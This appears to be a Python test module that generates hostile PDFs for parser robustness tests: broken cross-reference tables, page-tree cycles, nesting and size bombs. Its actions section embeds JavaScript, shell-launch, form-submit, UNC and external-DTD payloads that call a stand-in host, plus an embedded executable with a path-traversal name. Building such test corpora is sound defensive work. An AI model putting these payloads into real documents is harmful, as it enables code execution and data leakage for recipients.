"""Hostile PDFs: tables, trees and lengths that lie, cycles, bombs, and everything that would act or call home."""

from __future__ import annotations

import zlib
from functools import partial

from tests.hostile import pdfcontents
from tests.hostile.parts import Cost, Hostile, Recipes
from tests.hostile.pdfwriting import (
    CATALOG,
    FONT,
    TEXT,
    body,
    finish,
    packed,
    page,
    stream,
    table,
    with_streams,
    with_table,
    write,
    written,
)


def files() -> list[Hostile]:
    """Return every hostile PDF."""
    recipes = Recipes("pdf", ".pdf")
    _tables(recipes)
    _streams_of_objects(recipes)
    _lengths(recipes)
    _trees(recipes)
    _boxes(recipes)
    _actions(recipes)
    _cycles(recipes)
    _sizes(recipes)
    _heads_and_tails(recipes)
    pdfcontents.add(recipes)
    recipes.cut("plain", lambda: write(body()))
    recipes.cut("packed", lambda: with_streams({4: stream(TEXT)}, _inside()))
    return recipes.files


def _inside() -> list[tuple[int, bytes]]:
    return [(1, CATALOG), (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"), (3, page()), (5, FONT)]


def _tables(recipes: Recipes) -> None:
    data, offsets = written(body())
    good = table(offsets)
    root = b"/Root 1 0 R"
    at = len(data)
    recipes.add("no-table", data)
    for name, start in [("none", b""), ("far", b"999999999"), ("negative", b"-1"), ("word", b"x"), ("zero", b"0")]:
        recipes.add(f"startxref-{name}", finish(data, good, root, 6, start))
    recipes.add("startxref-long", finish(data, good, root, 6, b"9" * 5000))
    for off in (-7, 1, 3, 1000):
        shifted = table({number: max(place + off, 0) for number, place in offsets.items()})
        recipes.add(f"offsets-{off}", finish(data, shifted, root, 6))
    recipes.add("offsets-all-one", finish(data, table(dict.fromkeys(offsets, offsets[1])), root, 6))
    recipes.add("table-free", finish(data, good.replace(b" n ", b" f "), root, 6))
    recipes.add("table-huge", finish(data, good.replace(b"0 6", b"0 999999999"), root, 6))
    recipes.add("table-far", finish(data, good.replace(b"0 6", b"4294967290 6"), root, 6))
    recipes.add("table-short", finish(data, good[:40], root, 6))
    recipes.add("table-rubbish", finish(data, b"xref\n0 6\n" + bytes(range(256)), root, 6))
    recipes.add("size-huge", finish(data, good, root, 2**31))
    recipes.add("size-one", finish(data, good, root, 1))
    recipes.add("prev-itself", finish(data, good, root + b" /Prev %d" % at, 6))
    recipes.add("prev-negative", finish(data, good, root + b" /Prev -5", 6))
    recipes.add("prev-pair", _prev_pair(data, good))
    recipes.add("hybrid-itself", finish(data, good, root + b" /XRefStm %d" % at, 6))
    recipes.add("no-root", finish(data, good, b"", 6))
    for name, wrong in [("string", b"(x)"), ("far", b"99 0 R"), ("page", b"3 0 R"), ("stream", b"4 0 R")]:
        recipes.add(f"root-{name}", finish(data, good, b"/Root " + wrong, 6))
    rows = b"\1" + bytes(8)
    for name, about in [
        ("zero", b"/W [0 0 0]"),
        ("wide", b"/W [1 99999999 4]"),
        ("negative", b"/W [-1 4 4]"),
        ("one", b"/W [1]"),
        ("index-far", b"/W [1 4 4] /Index [2147483640 9]"),
        ("index-negative", b"/W [1 4 4] /Index [-5 9]"),
    ]:
        recipes.add(f"stream-table-{name}", with_table(data, 6, rows * 6, about))
    recipes.add("stream-table-prev", with_table(data, 6, rows * 6, b"/W [1 4 4] /Prev %d" % at))
    recipes.add("stream-table-bomb", with_table(data, 6, bytes(9 * 2_000_000), size=2_000_000), Cost.HEAVY)


def _prev_pair(data: bytes, good: bytes) -> bytes:
    """Two tables, each of which says that the other came before it."""
    first = finish(data, good, b"/Root 1 0 R /Prev %10d", 6)
    later = len(first)
    first = first.replace(b"%10d", b"%010d" % later)
    again = finish(b"", good, b"/Root 1 0 R /Prev %d" % len(data), 6, str(len(first)).encode())
    return first + again


def _streams_of_objects(recipes: Recipes) -> None:
    good = {4: stream(TEXT)}
    recipes.add("objects-packed", with_streams(good, _inside()))
    for name, about in [
        ("extends-itself", b"/Extends 6 0 R"),
        ("extends-far", b"/Extends 999 0 R"),
        ("n-huge", b"/N 999999999"),
        ("n-negative", b"/N -4"),
        ("first-far", b"/First 99999999"),
    ]:
        recipes.add(f"objects-{name}", with_streams(good, _inside(), about))
    recipes.add("objects-first-wrong", with_streams(good, _inside(), first=3))
    recipes.add("objects-in-themselves", with_streams(good, [*_inside(), (6, b"<< /Type /ObjStm /N 1 /First 0 >>")]))
    many = [*_inside(), *((number, b"[1]") for number in range(6, 200_000))]
    recipes.add("objects-200000-packed", lambda: with_streams(good, many), Cost.HEAVY)


def _lengths(recipes: Recipes) -> None:
    for name, length in [
        ("short", b"10"),
        ("long", b"99999"),
        ("huge", b"99999999999999"),
        ("negative", b"-10"),
        ("none", b""),
        ("string", b"(10)"),
        ("itself", b"4 0 R"),
        ("far", b"77 0 R"),
        ("array", b"[10]"),
        ("real", b"1e9"),
    ]:
        recipes.add(f"length-{name}", write(body(stream(TEXT, length=length))))
    recipes.add("no-endstream", write(body(stream(TEXT))).replace(b"endstream", b"end"))
    recipes.add("endstream-within", write(body(stream(b"(endstream endobj) " + TEXT))))


def _trees(recipes: Recipes) -> None:
    def tree(name: str, pages: bytes, one: bytes = b"", **more: bytes) -> None:
        objects = {**body(**more), 2: pages}
        recipes.add(f"tree-{name}", write({**objects, 3: one} if one else objects))

    def pages(kids: bytes, count: bytes) -> bytes:
        return b"<< /Type /Pages /Kids %s /Count %s >>" % (kids, count)

    tree("itself", pages(b"[2 0 R]", b"1"))
    tree("itself-and-page", pages(b"[3 0 R 2 0 R]", b"2"))
    tree("circle", pages(b"[3 0 R]", b"1"), pages(b"[2 0 R]", b"1"))
    tree("circle-three", pages(b"[6 0 R]", b"9"), o6=pages(b"[7 0 R]", b"9"), o7=pages(b"[2 0 R 3 0 R]", b"9"))
    tree("parent-itself", pages(b"[3 0 R]", b"1"), page().replace(b"/Parent 2 0 R", b"/Parent 3 0 R"))
    for count in (b"-1", b"0", b"5", b"999999999", b"99999999999999999999", b"(1)", b"2 0 R", b"1.5"):
        tree(f"count-{count.decode().strip('()').replace(' ', '-')}", pages(b"[3 0 R]", count))
    recipes.add("tree-count-missing", write({**body(), 2: b"<< /Type /Pages /Kids [3 0 R] >>"}))
    for name, kids in [("none", b"[]"), ("null", b"[null 3 0 R]"), ("page", b"3 0 R"), ("numbers", b"[1 2 3]")]:
        tree(f"kids-{name}", pages(kids, b"1"))
    tree("kids-far", pages(b"[98 0 R 99 0 R]", b"2"))
    tree("kids-inside", pages(b"[<< /Type /Page /MediaBox [0 0 9 9] >>]", b"1"))
    tree("same-page-2000", pages(b"[" + b"3 0 R " * 2000 + b"]", b"2000"))
    recipes.add("tree-same-page-6000", write({**body(), 2: pages(b"[" + b"3 0 R " * 6000 + b"]", b"6000")}))
    deep = {**body(), 2: pages(b"[6 0 R]", b"1")}
    for number in range(6, 3006):
        deep[number] = pages(b"[%d 0 R]" % (number + 1), b"1")
    recipes.add("tree-3000-deep", write({**deep, 3006: page()}))
    wide = {**body(), 2: pages(b"[6 0 R 6 0 R]", b"1099511627776")}
    for number in range(6, 46):
        wide[number] = pages(b"[%d 0 R %d 0 R]" % (number + 1, number + 1), b"1099511627776")
    recipes.add("tree-doubling", write({**wide, 46: page()}))
    recipes.add("tree-no-pages", write({**body(), 1: b"<< /Type /Catalog >>"}))
    recipes.add("tree-page-as-root", write({**body(), 1: b"<< /Type /Catalog /Pages 3 0 R >>"}))
    recipes.add("page-without-type", write({**body(), 3: b"<< /Parent 2 0 R >>"}))
    recipes.add("contents-itself", write({**body(), 3: page().replace(b"4 0 R", b"3 0 R")}))
    recipes.add("contents-array-itself", write({**body(), 3: page().replace(b"4 0 R", b"6 0 R"), 6: b"[4 0 R 6 0 R]"}))
    repeated = page().replace(b"4 0 R", b"[" + b"4 0 R " * 3000 + b"]")
    recipes.add("contents-3000-times", write({**body(), 3: repeated}), Cost.HEAVY)


def _boxes(recipes: Recipes) -> None:
    picture = {
        "o6": stream(bytes(100), b"/Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray")
    }
    boxes = {
        "none": b"",
        "huge": b"[0 0 1000000000 1000000000]",
        "1e38": b"[0 0 100000000000000000000000000000000000000 100000000000000000000000000000000000000]",
        "long": b"[0 0 1 10000000]",
        "thin": b"[0 0 0.0001 0.0001]",
        "nan": b"[nan nan nan nan]",
        "inf": b"[-inf -inf inf inf]",
        "negative": b"[-900 -900 -100 -100]",
        "reversed": b"[595 842 0 0]",
        "empty": b"[0 0 0 0]",
        "three": b"[0 0 595]",
        "strings": b"[(0) (0) (595) (842)]",
        "itself": b"3 0 R",
        "exponent": b"[0 0 1e300 1e300]",
        "wide": b"[0 0 14401 14401]",
    }
    for name, box in boxes.items():
        for kind, content in (("text", TEXT), ("picture", b"500 0 0 500 0 0 cm /I Do")):
            resources = b"/Font << /F1 5 0 R >> /XObject << /I 6 0 R >>"
            objects = {**body(content, **picture), 3: page(b"", resources, box)}
            cost = Cost.CHEAP if kind == "text" else Cost.HEAVY
            recipes.add(f"box-{name}-{kind}", write(objects), cost)
    for name, about in [
        ("crop-outside", b"/CropBox [2000 2000 3000 3000]"),
        ("unit-huge", b"/UserUnit 1000000"),
        ("unit-nan", b"/UserUnit nan"),
        ("rotate-45", b"/Rotate 45"),
        ("rotate-huge", b"/Rotate 99999999999"),
        ("rotate-negative", b"/Rotate -90"),
    ]:
        recipes.add(name, write(body(about=about)))


def _actions(recipes: Recipes) -> None:
    where = b"http://203.0.113.7/x"
    actions = {
        "javascript": b"/S /JavaScript /JS (app.launchURL\\('%s'\\); while\\(true\\){})" % where,
        "uri": b"/S /URI /URI (%s)" % where,
        "launch": b"/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>",
        "submit": b"/S /SubmitForm /F << /FS /URL /F (%s) >>" % where,
        "gotor": b"/S /GoToR /F (\\\\\\\\203.0.113.7\\\\share\\\\a.pdf) /D [0 /Fit]",
        "import": b"/S /ImportData /F (%s)" % where,
        "gotoe": b"/S /GoToE /F (%s) /D [0 /Fit]" % where,
        "itself": b"/S /Named /N /NextPage /Next 6 0 R",
    }
    for name, action in actions.items():
        catalog = CATALOG.replace(b">>", b"/OpenAction 6 0 R /AA << /WC 6 0 R /DS 6 0 R >> >>")
        note = b"<< /Type /Annot /Subtype /Link /Rect [0 0 600 850] /A 6 0 R >>"
        objects = body(about=b"/AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R]", o6=b"<< %s >>" % action, o7=note)
        recipes.add(f"action-{name}", write({**objects, 1: catalog}))
    outside = b"<< /Length 0 /F << /FS /URL /F (%s) >> /FFilter /FlateDecode >>\nstream\n\nendstream" % where
    recipes.add("content-elsewhere", write(body(outside)))
    names = b"/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> /JavaScript << /Names [(a) 7 0 R] >> >>"
    attached = body(
        o6=b"<< /Type /Filespec /F (../../../../tmp/hostile-was-here) /EF << /F 8 0 R >> >>",
        o7=b"<< %s >>" % actions["javascript"],
        o8=packed(b"MZ" * 5000, b"/Type /EmbeddedFile"),
    )
    recipes.add("embedded", write({**attached, 1: CATALOG.replace(b">>", names + b">>")}))
    form = b"/AcroForm << /XFA 6 0 R /NeedAppearances true /Fields [7 0 R] >>"
    xfa = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x SYSTEM "http://203.0.113.7/x.dtd"></xdp:xdp>'
    fields = body(o6=stream(xfa), o7=b"<< /FT /Tx /T (a) /Kids [7 0 R] /Parent 7 0 R >>")
    recipes.add("xfa", write({**fields, 1: CATALOG.replace(b">>", form + b">>")}))
    for version, revision in ((1, 2), (2, 3), (4, 4), (5, 6), (99, 99), (-1, -1)):
        about = b"<< /Filter /Standard /V %d /R %d /O (%s) /U (%s) /P -4 /Length 128 >>"
        lock = about % (version, revision, b"o" * 48, b"u" * 48)
        recipes.add(f"encrypted-{version}", write(body(o6=lock), b"/Root 1 0 R /Encrypt 6 0 R /ID [(a) (b)]"))
    recipes.add("encrypted-unknown", write(body(o6=b"<< /Filter /Strange >>"), b"/Root 1 0 R /Encrypt 6 0 R"))


def _cycles(recipes: Recipes) -> None:
    itself = {
        "outlines": b"/Outlines 6 0 R",
        "names": b"/Names << /Dests 6 0 R >>",
        "structure": b"/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>",
        "labels": b"/PageLabels 6 0 R",
        "layers": b"/OCProperties << /OCGs [6 0 R] /D 6 0 R >>",
        "metadata": b"/Metadata 6 0 R",
    }
    round_trip = b"<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Parent 6 0 R /Kids [6 0 R] /K 6 0 R /Title (a) /Count 9 >>"
    for name, entry in itself.items():
        recipes.add(f"cycle-{name}", write({**body(o6=round_trip), 1: CATALOG.replace(b">>", entry + b">>")}))
    recipes.add(
        "cycle-resources", write({**body(o6=b"<< /XObject 6 0 R /Font 6 0 R >>"), 3: page(resources=b"/XObject 6 0 R")})
    )
    shown = b"<< /Subtype /Widget /FT /Btn /Rect [0 0 99 99] /AP << /N 7 0 R >> /Parent 6 0 R /Kids [6 0 R] >>"
    look = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 7 0 R >> >>")
    recipes.add("cycle-annotation", write(body(about=b"/Annots [6 0 R 6 0 R]", o6=shown, o7=look)))


def _sizes(recipes: Recipes) -> None:
    def million() -> bytes:
        return write({**body(), **dict.fromkeys(range(6, 1_000_000), b"0")})

    recipes.add("million-objects", million, Cost.HEAVY)
    for depth in (500, 100_000):
        cost = Cost.CHEAP if depth < 1000 else Cost.HEAVY
        recipes.add(f"arrays-{depth}", write(body(o6=b"[" * depth + b"]" * depth)), cost)
        recipes.add(f"dictionaries-{depth}", write(body(o6=b"<</A" * depth + b" 0 " + b">>" * depth)), cost)
        recipes.add(f"arrays-in-page-{depth}", write(body(about=b"/Annots " + b"[" * depth + b"]" * depth)), cost)
        recipes.add(f"arrays-open-{depth}", write(body(o6=b"[" * depth)), cost)
        inside = [(1, CATALOG.replace(b">>", b"/X " + b"[" * depth + b"]" * depth + b">>")), *_inside()[1:]]
        recipes.add(f"arrays-packed-{depth}", partial(with_streams, {4: stream(TEXT)}, inside), cost)
    recipes.add("name-long", write(body(o6=b"/" + b"a" * 1_000_000)))
    recipes.add("string-long", write(body(o6=b"(" * 100_000 + b")" * 100_000)))
    recipes.add("number-long", write(body(o6=b"9" * 1_000_000)))
    recipes.add("comment-long", write(body(o6=b"%" * 1_000_000 + b"\n0")))
    recipes.add(
        "keys-100000", lambda: write(body(o6=b"<<" + b"".join(b"/K%d 0" % at for at in range(100_000)) + b">>"))
    )


def _heads_and_tails(recipes: Recipes) -> None:
    good = write(body())
    for name, data in {
        "header-alone": b"%PDF-1.7",
        "header-and-end": b"%PDF-1.7\n%%EOF\n",
        "header-late": b"x" * 1000 + b"\n" + good,
        "header-too-late": b"x" * 5000 + good,
        "header-version": good.replace(b"1.7", b"9.99999"),
        "header-twice": b"%PDF-1.4\n" + good,
        "behind-itself": good + good,
        "before-zeros": good + bytes(100_000),
        "before-rubbish": good + zlib.compress(bytes(range(256)) * 99),
        "all-zeros": b"%PDF-1.7\n" + bytes(200_000),
        "carriage-returns": good.replace(b"\n", b"\r"),
        "no-line-ends": good.replace(b"\n", b" "),
        "no-objects": b"%PDF-1.7\nxref\n0 0\ntrailer <<>>\nstartxref\n9\n%%EOF",
        "end-within": good.replace(b"endobj", b"%%EOF endobj"),
        "objects-renamed": good.replace(b" 0 obj", b" 1 obj"),
        "objects-same-number": good.replace(b"3 0 obj", b"2 0 obj"),
        "linearized-lie": good.replace(
            b"%PDF-1.7\n", b"%PDF-1.7\n9 0 obj<</Linearized 1 /L 5 /H [1 2] /O 3 /N 9 /T 1>>endobj\n"
        ),
    }.items():
        recipes.add(name, data)
    updates = good
    for _ in range(300):
        at = len(updates)
        updates = finish(updates, b"xref\n0 0\n", b"/Root 1 0 R /Prev %d" % (at - 120), 6)
    recipes.add("updates-300", updates)
